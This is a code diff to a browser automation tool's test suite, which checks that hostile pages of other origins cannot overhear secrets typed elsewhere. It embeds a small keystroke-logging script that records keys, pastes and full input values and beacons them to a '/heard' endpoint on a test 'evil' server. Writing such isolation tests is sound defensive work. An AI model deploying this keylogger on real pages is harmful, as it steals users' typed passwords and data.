@@ -1,9 +1,12 @@
 """Pages that try to catch a secret on its way to another page, and what they caught."""
 
 import json
+from contextlib import suppress
 from typing import Any
 
 from tabwright.browser.call_permissions import ALL, granted
+from tabwright.browser.page.frame import DocumentGone
+from tabwright.cdp import CdpError
 from tests.policy.desk import Desk
 from tests.web import Response, Web
 
@@ -14,8 +17,9 @@ LISTENER = """<script>
 globalThis.heard = []
 for (const type of ['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'paste', 'compositionend'])
   addEventListener(type, event => {
-    heard.push([type, event.key ?? event.data ?? ''])
-    navigator.sendBeacon('/heard', JSON.stringify([type, event.key ?? event.data ?? '']))
+    const got = [type, event.key ?? (type === 'input' ? event.target.value : event.data) ?? '']
+    heard.push(got)
+    navigator.sendBeacon('/heard', JSON.stringify(got))
   }, true)
 </script>"""
 # Takes the focus again and again, as often as the event loop allows.
@@ -35,10 +39,14 @@ def serve_hostile(web: Web, html: str = THIEF, path: str | None = None) -> str:
 async def overheard(desk: Desk, evil: Web) -> list[Any]:
     """Return everything that documents of other origins heard."""
     found = [json.loads(request.body) for request in evil.requests if request.path == "/heard"]
+    port = evil.url.rpartition(":")[2]
     with granted(ALL):
         for frame in (await desk.tab()).frames:
-            answer = await frame.ask("Runtime.evaluate", expression="globalThis.heard", returnByValue=True)
-            found += answer["result"].get("value") or [] if str(evil.url[-6:]) in frame.url else []
+            with suppress(DocumentGone, CdpError):  # what it heard is on the server
+                answer = await frame.ask(
+                    "Runtime.evaluate", expression="globalThis.heard", returnByValue=True
+                )
+                found += answer["result"].get("value") or [] if f":{port}/" in frame.url else []
     return found
 
 
